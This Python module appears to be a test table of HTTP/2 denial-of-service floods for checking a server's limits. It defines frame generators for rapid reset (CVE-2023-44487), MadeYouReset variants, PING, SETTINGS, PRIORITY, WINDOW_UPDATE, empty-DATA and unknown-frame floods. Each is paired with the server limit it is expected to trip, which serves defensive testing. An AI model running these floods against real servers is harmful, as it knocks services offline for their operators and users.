"""Floods: frames that cost a client nothing and a server something (design notes: attack table)."""
import frames as f
from attacks import Flood, repeat
from server import LONG

ES, EH = f.END_STREAM, f.END_HEADERS
CONTROL, RESETS, UNASKED = "kControlFramesBurst", "kResetsBurst", "kUnaskedBytesMax"


def request_then(make, path="/"):
    """A request on each next stream, with something behind it; `make(stream)`."""
    return repeat(lambda n: f.get(f.client_id(n), path) + make(f.client_id(n)))


def rapid_reset(server):
    """CVE-2023-44487, with answers that are long and cost something."""
    n = 0
    while True:
        stream = f.client_id(n)
        yield f.get(stream, LONG, server.authorization) + f.reset(stream)
        n += 1


def rapid_reset_batch(server):
    """The same, hundreds at a time before anything is read."""
    n = 0
    while True:
        yield b"".join(f.get(f.client_id(i), LONG, server.authorization)
                       + f.reset(f.client_id(i)) for i in range(n, n + 300))
        n += 300


def open_body(*after):
    """A request whose body never ends, then these frames again and again."""
    def steps(_server):
        yield f.post(1)
        while True:
            yield from after
    return steps


def open_upload(*after):
    """The same where a body is taken in: POST of readings with a token."""
    def steps(server):
        yield f.post(1, "/ingest/v1/readings", server.authorization, ("content-type", "text/csv"))
        while True:
            yield from after
    return steps


def dribble(_server):
    """A window of one byte, opened byte by byte."""
    yield f.settings((f.INITIAL_WINDOW_SIZE, 0)) + f.get(1) + f.get(3)
    while True:
        yield f.window_update(1, 1)


def closed_stream(make):
    """A request that has been answered, then frames on its stream."""
    def steps(_server):
        yield f.get(1)
        while True:
            yield make()
    return steps


RESET_FLOODS = [
    Flood("rapid reset (CVE-2023-44487)", RESETS, rapid_reset),
    Flood("rapid reset, 300 a write", RESETS, rapid_reset_batch),
    Flood("MadeYouReset: a bad field", RESETS,
          repeat(lambda n: f.get(f.client_id(n), "/", ("connection", "close")))),
    Flood("MadeYouReset: content-length", RESETS,
          repeat(lambda n: f.post(f.client_id(n), "/", ("content-length", "1"))
                 + f.data(f.client_id(n), b"too long", ES))),
    Flood("MadeYouReset: window overflow", RESETS,
          request_then(lambda stream: f.window_update(stream, f.WINDOW_MAX)),
          settings=((f.INITIAL_WINDOW_SIZE, 1),)),
    Flood("MadeYouReset: WINDOW_UPDATE 0", RESETS,
          request_then(lambda stream: f.window_update(stream, 0)),
          settings=((f.INITIAL_WINDOW_SIZE, 1),)),
    Flood("MadeYouReset: second HEADERS", RESETS,
          repeat(lambda n: f.post(f.client_id(n)) + f.headers(f.client_id(n), f.block(("a", "b")),
                                                             EH))),
    Flood("uploads answered early", RESETS, repeat(lambda n: f.post(f.client_id(n)))),
    Flood("resets of closed streams", RESETS, closed_stream(lambda: f.reset(1))),
]

CONTROL_FLOODS = [
    Flood("PING (CVE-2019-9512)", CONTROL, repeat(lambda n: f.ping())),
    Flood("PING, nothing read", CONTROL, repeat(lambda n: f.ping() * 50), reads=False),
    Flood("PING acknowledgements", CONTROL, repeat(lambda n: f.ping(flags=f.ACK))),
    Flood("SETTINGS (CVE-2019-9515)", CONTROL, repeat(lambda n: f.settings())),
    Flood("SETTINGS, nothing read", CONTROL, repeat(lambda n: f.settings() * 50), reads=False),
    Flood("SETTINGS that move the window", CONTROL,
          repeat(lambda n: f.settings((f.INITIAL_WINDOW_SIZE, 65535 + n % 2)))),
    Flood("SETTINGS with 2,000 entries", "nghttp2: 32",
          repeat(lambda n: f.settings(*[(0xf000, i) for i in range(2000)]))),
    Flood("SETTINGS that flap the table size", CONTROL,
          repeat(lambda n: f.settings((f.HEADER_TABLE_SIZE, 4096 * (n % 2))) + f.get(
              f.client_id(n)))),
    Flood("WINDOW_UPDATE 0", "nghttp2", repeat(lambda n: f.window_update(0, 0))),
    Flood("WINDOW_UPDATE of the connection", CONTROL, repeat(lambda n: f.window_update(0, 1))),
    Flood("WINDOW_UPDATE of a stream", CONTROL, open_body(f.window_update(1, 1))),
    Flood("data dribbled by 1-byte windows", CONTROL, dribble),
    Flood("PRIORITY (CVE-2019-9513)", CONTROL,
          repeat(lambda n: f.priority(f.client_id(n % 50), 0, 1 + n % 256))),
    Flood("PRIORITY, a deep chain", CONTROL,
          repeat(lambda n: f.priority(f.client_id(n + 1), f.client_id(n), 1, True))),
    Flood("GOAWAY again and again", CONTROL,
          repeat(lambda n: f.frame(f.GOAWAY, 0, 0, f.u32(0) + f.u32(0)))),
]

DATA_FLOODS = [
    Flood("empty DATA (CVE-2019-9518)", CONTROL, open_upload(f.data(1, b""))),
    Flood("empty padded DATA", CONTROL, open_upload(f.data(1, f.padded(b"", 255), f.PADDED))),
    Flood("1-byte DATA, 255 bytes of padding", "kDataFrameBytesMin",
          open_upload(f.data(1, f.padded(b"x", 255), f.PADDED))),
    Flood("1-byte DATA", "kDataFrameBytesMin", open_upload(f.data(1, b"x"))),
    Flood("DATA of an answered request", "nghttp2: STREAM_CLOSED",
          closed_stream(lambda: f.data(1, b"x" * 1000))),
    Flood("DATA of a refused upload", UNASKED + ", the window",
          open_body(f.data(1, b"x" * 16000))),
    Flood("unknown frames", UNASKED, repeat(lambda n: f.frame(0x42, n % 256, 0, b"x" * 100))),
    Flood("unknown frames without payload", UNASKED, repeat(lambda n: f.frame(0x42, 0, 1) * 50)),
    Flood("unknown frames of 16 KiB", UNASKED,
          repeat(lambda n: f.frame(0xff, 0, 0, b"x" * 16384))),
]

FLOODS = RESET_FLOODS + CONTROL_FLOODS + DATA_FLOODS
